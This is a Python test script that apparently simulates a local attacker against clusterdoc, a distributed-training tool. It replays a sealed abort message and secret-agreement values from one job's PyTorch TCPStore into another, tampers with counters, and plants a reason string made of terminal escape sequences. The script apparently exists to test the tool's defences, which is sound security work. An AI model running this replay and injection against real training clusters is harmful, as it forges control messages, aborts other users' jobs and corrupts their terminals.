"""Another local user replays an earlier job's store values into a new job: `replay_attacker.py UID GID A B`.

Started as root only to import torch, it drops to UID/GID first. It copies what job A (port A) has on its
store under clusterdoc's keys (the sealed abort the hang watch put in `ctl`, and the secret agreement's nonce and
proof as the earlier design kept them), then, as soon as job B's store (port B) answers, before its ranks agree
on a secret, puts them there, takes 1 off the `bad` counter, plants counts and a reason text, and keeps putting
the old abort back for 10 s. Prints one JSON line: what it copied and did.
"""
import datetime
import encodings.idna  # noqa: F401 - socket needs it; the python lives where this user cannot read
import json
import os
import socket
import sys
import time

import torch.distributed as dist

uid, gid, port_a, port_b = (int(a) for a in sys.argv[1:5])
os.setgroups([])
os.setgid(gid)
os.setuid(uid)
CTL = "clusterdoc/hang//ctl"
S = "0//clusterdoc/secret/"  # torch keeps the default group's keys under "0/" (its PrefixStore adds a "/")
KEYS = [CTL, S + "nonce", S + "proof"]
ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31mFORGED"
out = {"uid": os.getuid(), "copied": {}, "wrote": 0, "errors": []}


def client(port, wait):
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2):
                pass
            return dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False,
                                 timeout=datetime.timedelta(seconds=3))
        except Exception:  # noqa: BLE001 - not up yet
            time.sleep(0.005)
    raise TimeoutError(port)


a = client(port_a, 120)
deadline = time.monotonic() + 60
while CTL not in out["copied"] and time.monotonic() < deadline:
    for key in KEYS:
        try:
            if a.check([key]):
                out["copied"][key] = a.get(key)
        except Exception as exc:  # noqa: BLE001
            out["errors"].append(str(exc)[:200])
            a = client(port_a, 5)
    time.sleep(0.05)
b = client(port_b, 120)
for key, value in out["copied"].items():
    if key != CTL:
        b.compare_set(key, "", value)  # before rank 0 writes its own
for key, value in [(S + "arrived", 1000), (S + "bad", -1)]:
    try:
        b.add(key, value)
    except Exception as exc:  # noqa: BLE001
        out["errors"].append(str(exc)[:200])
        b = client(port_b, 5)
b.set(S + "why", ESC)
end = time.monotonic() + 10
while time.monotonic() < end and CTL in out["copied"]:
    try:
        b.set(CTL, out["copied"][CTL])
        out["wrote"] += 1
    except Exception:  # noqa: BLE001 - the job ended (its store went with it)
        break
    time.sleep(0.1)
out["copied"] = {k: len(v) for k, v in out["copied"].items()}
print(json.dumps(out), flush=True)
